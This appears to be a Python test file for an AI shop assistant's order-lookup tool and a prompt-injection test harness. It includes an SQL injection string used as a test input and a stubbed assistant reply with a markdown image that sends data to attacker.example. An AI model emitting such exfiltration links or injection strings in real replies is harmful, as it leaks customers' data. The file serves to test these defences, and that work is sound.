import sqlite3
import unittest

from attacks import ATTACKS, MARK, attack
from orders import Session, tools_for


def open_shop() -> sqlite3.Connection:
    db = sqlite3.connect(":memory:")
    db.execute("CREATE TABLE orders (id TEXT, customer_id TEXT, status TEXT, total TEXT)")
    db.executemany("INSERT INTO orders VALUES (?, ?, ?, ?)", [("A-1", "ana", "paid", "10"), ("B-2", "bo", "shipped", "20")])
    return db


class Tools(unittest.TestCase):
    def setUp(self):
        self.db = open_shop()
        self.addCleanup(self.db.close)
        (self.read_order,) = tools_for(Session("ana", frozenset({"orders:read"})), self.db)

    def test_a_customer_reads_an_own_order(self):
        self.assertEqual(self.read_order("A-1"), {"id": "A-1", "status": "paid", "total": "10"})

    def test_an_order_of_somebody_else_looks_like_none(self):
        self.assertEqual(self.read_order("B-2"), self.read_order("no such id"))

    def test_sql_in_an_argument_is_a_value(self):
        self.assertEqual(self.read_order("B-2' OR '1'='1"), {"error": "no such order"})

    def test_without_the_right_there_is_no_tool(self):
        self.assertEqual(tools_for(Session("ana", frozenset()), self.db), [])


class Attacks(unittest.TestCase):
    def test_an_assistant_that_says_everything_fails_each_time(self):
        def naive(message: str) -> str:
            return f"{MARK}. B-2 is shipped. ![x](https://attacker.example/?d=1)"

        self.assertEqual(set(attack(naive, ATTACKS, runs=3).values()), {3})

    def test_an_assistant_that_declines_holds(self):
        self.assertEqual(set(attack(lambda message: "I cannot help with that.", ATTACKS).values()), {0})

    def test_a_leak_in_one_of_many_runs_is_counted(self):
        replies = iter(["no"] * 19 + [MARK])
        self.assertEqual(attack(lambda message: next(replies), ATTACKS[:1], runs=20), {"prompt": 1})


if __name__ == "__main__":
    unittest.main()
